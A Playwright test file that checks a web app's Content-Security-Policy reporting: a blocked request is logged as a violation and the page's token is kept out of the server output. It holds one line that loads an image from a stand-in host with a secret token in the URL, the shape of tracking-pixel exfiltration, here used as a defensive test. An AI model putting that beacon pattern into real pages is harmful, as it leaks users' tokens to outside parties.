import { expect, test } from '@playwright/test'
import { startServer, type TestServer } from '../support/server/server'
import { applyTestDayTo } from '../support/server/test-day'

// the policy applies to the service worker too
test.use({ serviceWorkers: 'allow' })

/**
 * Checks that a violation of the Content-Security-Policy is detected at all. In all other tests a violation is a failure.
 */
let server: TestServer
test.beforeAll(async () => {
  server = await startServer({ expectsPolicyReports: true })
})
test.afterAll(() => server.stop())

test('a policy violation is reported without the fragment of the page’s address, which may contain a token', async ({
  browser,
}) => {
  const context = await applyTestDayTo(await browser.newContext({ baseURL: server.url }))
  const page = await context.newPage()
  const violations: string[] = []
  page.on('console', (message) => violations.push(message.text()))
  await page.goto('/auth?token=SECRET')
  await page.evaluate(() => {
    new Image().src = 'https://pixel.example/a?token=SECRET'
  })
  await expect
    .poll(() => server.output())
    .toContain(
      'level=WARN msg="content security policy violated" directive=img-src blocked=https://pixel.example times=1',
    )
  expect(server.output()).not.toContain('SECRET')
  // `browser-test` searches for this text
  expect(violations.join('\n')).toMatch(/Content Security Policy/)
  await context.close()
})
